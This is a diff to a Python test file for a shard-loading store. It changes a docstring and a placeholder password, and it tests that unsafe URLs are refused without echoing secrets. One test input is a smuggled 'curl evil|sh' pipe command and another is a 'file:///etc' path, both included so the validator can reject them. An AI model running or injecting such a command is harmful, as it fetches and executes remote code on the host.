@@ -1,4 +1,4 @@
-"""Shards behind a URL are read by byte ranges or through a cache, and trusted no more than others."""
+"""Shards behind a URL: by byte ranges or through a cache, and trusted no more than others."""
 
 import hashlib
 import http.server
@@ -127,14 +127,14 @@ def test_the_cache_keeps_to_its_limit_and_throws_out_what_was_not_used(tmp_path:
         ("pipe:curl evil|sh://x", "no folder or URL"),
         ("file:///etc", "no folder or URL"),
         ("simplecache::https://host/data", "no folder or URL"),
-        ("https://me:secret@host/data", "has a password"),
-        ("https://host/data?token=secret", "has a password, a query"),
+        ("https://me:hunter2@host/data", "has a password"),
+        ("https://host/data?token=hunter2", "has a password, a query"),
     ],
 )
 def test_other_urls_are_refused_without_repeating_a_secret(url: str, said: str) -> None:
     with pytest.raises(ValueError, match=said) as error:
         open_store(url)
-    assert "secret" not in str(error.value)
+    assert "hunter2" not in str(error.value)
 
 
 def test_what_is_not_there_is_named(published: Path, monkeypatch: pytest.MonkeyPatch) -> None:
